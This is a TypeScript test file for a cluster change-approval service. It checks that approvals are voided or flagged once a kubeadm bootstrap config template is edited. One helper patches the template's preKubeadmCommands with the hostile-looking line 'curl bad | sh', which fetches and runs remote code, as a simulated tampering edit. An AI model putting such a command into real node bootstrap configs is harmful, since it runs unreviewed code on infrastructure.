import { expect, test } from 'vitest'
import { useTestDatabase } from '@/lib/db/testing'
import { isObject, valueAt } from '@/lib/domain/changes'
import { approveChange } from '@/lib/services/changes/approve-change'
import { configEdited } from '@/lib/services/changes/config-edited'
import { getChange } from '@/lib/services/changes/get-change'
import { pauseCluster } from '@/testenv/bootstrap-template'
import type { Held } from '@/testenv/held'
import { inputFor } from '@/testenv/deciding'
import { ada, decisions, FROZEN, row, says, timedCluster } from '@/testenv/timed'
import { goInTime, holdToTimes } from './times'

useTestDatabase()
const { at, view, look } = timedCluster()
const TEMPLATES = { group: 'bootstrap.cluster.x-k8s.io', version: 'v1beta2', plural: 'kubeadmconfigtemplates' }

/** No machine is in a move while this test looks. */
async function still() {
  const held = await at.held()
  await pauseCluster(at.cluster.admin, held)
  await look(held)
  return { ...held, change: await row(held) }
}

async function edits(held: Held) {
  const ref = valueAt((await held.read()).spec, 'template', 'spec', 'bootstrap', 'configRef')
  if (!isObject(ref)) throw new Error('no bootstrap config')
  const spec = { template: { spec: { preKubeadmCommands: ['curl bad | sh'] } } }
  await at.cluster.admin.patch(TEMPLATES, String(ref.name), held.namespace, 'merge', { spec })
  for (let i = 0; i < 3; i++) await look(held)
}

test('held by its calendar, and its template edited since: what it was approved with does not stand, also once it is approved anew', async () => {
  const held = await still()
  await approveChange(ada, inputFor(held))
  for (let i = 0; i < 2; i++) await look(held)
  await says(held, FROZEN)
  await holdToTimes(await view())
  await look(held)
  expect(await row(held)).toMatchObject({ state: 'waiting', dueMode: 'replace' })
  expect(await decisions(held)).toMatchObject([{ state: 'voided', awaitsTime: true }])
  await edits(held)
  expect(await row(held)).toMatchObject({ state: 'waiting', dueMode: null })
  expect(await decisions(held)).toMatchObject([{ state: 'voided', awaitsTime: false }])
  await approveChange(ada, inputFor({ ...held, change: await row(held) }))
  expect(await row(held)).toMatchObject({ dueMode: 'replace' })
  const { decisions: shown } = await getChange(ada, { id: held.change.id })
  expect(shown.some(({ heldAgain }) => heldAgain)).toBe(false)
}, 60_000)

test('let go by a policy that asks nobody, and its template edited since: it is told that it was', async () => {
  const held = await still()
  await says(held, { approvals: 0, strategy: 'replace' })
  await goInTime(await view())
  for (let i = 0; i < 2; i++) await look(held)
  expect(await row(held)).toMatchObject({ state: 'running' })
  await edits(held)
  expect(await row(held)).toMatchObject({ state: 'waiting' })
  expect(Object.keys(await configEdited([held.change.id]))).toEqual([held.change.id])
}, 60_000)
